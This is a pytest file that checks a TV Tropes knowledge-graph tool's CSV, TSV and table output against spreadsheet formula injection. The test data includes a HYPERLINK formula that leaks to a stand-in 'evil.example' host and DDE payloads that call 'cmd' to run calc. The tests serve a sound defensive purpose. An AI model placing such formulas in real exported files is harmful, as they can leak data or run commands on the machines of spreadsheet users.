"""Outputs people open are safe to open: a page whose display title is a spreadsheet formula
(a rendered page saved from the site says what its title is) goes through build, load, ``query run``
and ``export`` and comes out of every CSV as text, never as a formula (OWASP's rule: a leading ');
``--raw-csv`` gives the cells as they are; CSV and TSV end with their last row, not a blank line;
the table cuts long text with an ellipsis and shows no control character."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from pyoxigraph import Literal, NamedNode

from tropekg.build import build
from tropekg.cli import cli
from tropekg.query.results import Rows, format_rows, spreadsheet_safe
from tropekg.store.embedded import GraphStore

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?leak","Click me")'
EVIL_PAGE = f"""<!DOCTYPE html><html><head>
<link rel="canonical" href="https://tvtropes.org/pmwiki/pmwiki.php/Film/EvilFormula">
<meta property="og:title" content='{FORMULA}'></head><body>
<div id="main-article"><p>A film.</p><ul>
<li><a class="twikilink" href="/pmwiki/pmwiki.php/Main/ThouShaltNotKill">Thou Shalt Not Kill</a>: the hero will not.</li>
</ul></div></body></html>
""".encode()
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Path:
    pages = tmp_path_factory.mktemp("pages")
    shutil.copytree(ROOT / "examples" / "pages", pages, dirs_exist_ok=True)
    (pages / "EvilFormula.html").write_bytes(EVIL_PAGE)
    out = tmp_path_factory.mktemp("out")
    report = build([pages], out, jobs=1)
    assert not report.failed
    path = tmp_path_factory.mktemp("store") / "kg"
    GraphStore(path).load([out])
    return path


def _cli(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS_STARTS) or cell.lstrip("+-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize(("cell", "safe"), [
    (FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1e5", "-1e5"), ("42", "42"), ("Thou Shalt Not Kill", "Thou Shalt Not Kill"),
    ("a=b", "a=b"), ("", ""),
])
def test_a_cell_a_spreadsheet_would_run_is_made_text(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_query_run_csv_neutralises_the_formula_label_and_raw_csv_keeps_it(store):
    args = ["query", "run", "works-for-trope", "-p", "trope=Main/ThouShaltNotKill", "--store", str(store),
            "--format", "csv"]
    safe, raw = _cli(*args), _cli(*args, "--raw-csv")
    assert safe.exit_code == raw.exit_code == 0
    safe_out, raw_out = safe.stdout_bytes.decode(), raw.stdout_bytes.decode()  # .stdout drops the \r
    safe_rows, raw_rows = _cells(safe_out), _cells(raw_out)
    assert ["'" + FORMULA] == [c for row in safe_rows for c in row if FORMULA in c]
    assert [FORMULA] == [c for row in raw_rows for c in row if FORMULA in c]
    _assert_safe(safe_rows)
    for out in (safe_out, raw_out):  # the last row ends the file: no empty row after it
        assert out.endswith("\r\n") and not out.endswith("\n\r\n") and not out.endswith("\r\n\n")
        assert all(_cells(out)) and len(_cells(out)) == len(out.split("\r\n")) - 1


def test_sparql_csv_is_safe_too_and_tsv_ends_with_its_last_row(store):
    query = "SELECT ?label WHERE { ?w rdfs:label ?label } ORDER BY ?label"
    out = _cli("sparql", query, "--store", str(store), "--format", "csv").stdout_bytes.decode()
    assert "'" + FORMULA in [c for row in _cells(out) for c in row]
    _assert_safe(_cells(out))
    assert out.endswith("\r\nWould Not Shoot a Good Guy\r\n")
    tsv = _cli("sparql", query, "--store", str(store), "--format", "tsv").stdout_bytes.decode()
    assert tsv.endswith('"Would Not Shoot a Good Guy"@en\n')


def test_export_csv_neutralises_the_formula_label_and_raw_csv_keeps_it(store, tmp_path):
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert _cli("export", "--store", str(store), "--view", "bipartite", "-o", str(safe)).exit_code == 0
    assert _cli("export", "--store", str(store), "--view", "bipartite", "-o", str(raw), "--raw-csv").exit_code == 0
    safe_rows = _cells(safe.read_text(encoding="utf-8"))
    assert ["'" + FORMULA] == [c for row in safe_rows for c in row if FORMULA in c]
    _assert_safe(safe_rows)
    assert [FORMULA] == [c for row in _cells(raw.read_text(encoding="utf-8")) for c in row if FORMULA in c]
    refused = _cli("export", "--store", str(store), "-o", str(tmp_path / "x.ttl"), "--raw-csv")
    assert refused.exit_code == 2 and "--raw-csv is for the csv format" in refused.output


@pytest.mark.parametrize("command", [["query", "run"], ["sparql"], ["export"]])
def test_the_raw_csv_option_is_documented(command):
    assert "--raw-csv" in _cli(*command, "--help").stdout
    assert "--raw-csv" in (ROOT / "README.md").read_text(encoding="utf-8")


def test_the_table_marks_cut_text_with_an_ellipsis_and_shows_no_control_character():
    long_text = "An example that goes on " + "and on " * 30
    table = format_rows(Rows(["text", "work"], [[Literal(long_text), NamedNode("urn:x")],
                                                 [Literal("red \x1b[31malert\x1b[0m\nsecond line"), None]]), "table")
    lines = table.splitlines()
    assert lines[2].startswith(long_text[:79] + "…") and long_text[:81] not in table
    assert "\x1b" not in table and len(lines) == 5  # header, rule, two rows, count
    assert "red \ufffd[31malert\ufffd[0m second line" in lines[3]


def test_a_short_cell_is_never_given_an_ellipsis(store):
    out = _cli("sparql", 'SELECT ?t WHERE { BIND("Thou Shalt Not Kill" AS ?t) }', "--store", str(store)).stdout
    assert "Thou Shalt Not Kill" in out and "…" not in out
